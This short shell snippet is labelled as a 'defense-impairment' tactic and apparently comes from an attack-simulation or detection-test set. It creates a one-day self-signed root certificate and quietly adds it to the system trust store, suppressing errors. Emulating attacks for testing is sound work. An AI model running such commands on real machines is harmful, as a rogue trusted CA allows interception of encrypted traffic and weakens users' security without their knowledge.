# tactic: defense-impairment
# add a certificate authority with trust anchor
openssl req -x509 -newkey rsa:2048 -nodes -keyout $HOME/k.pem -out $HOME/ca.pem -subj /CN=x -days 1 2>/dev/null
trust anchor --store $HOME/ca.pem 2>/dev/null; update-ca-certificates 2>/dev/null; true
